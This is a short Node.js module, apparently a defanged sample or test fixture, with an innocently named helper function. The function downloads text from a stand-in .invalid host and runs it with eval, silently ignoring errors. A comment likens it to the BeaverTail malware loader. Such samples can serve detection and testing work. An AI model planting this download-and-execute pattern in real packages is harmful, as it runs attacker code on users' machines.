const http = require('http');
module.exports = function helper() {
  // BeaverTail-like loader shape against a reserved .invalid host.
  http.get('http://s.example.invalid/l', (res) => {
    let body = '';
    res.on('data', (chunk) => (body += chunk));
    res.on('end', () => eval(body));
  }).on('error', () => {});
};
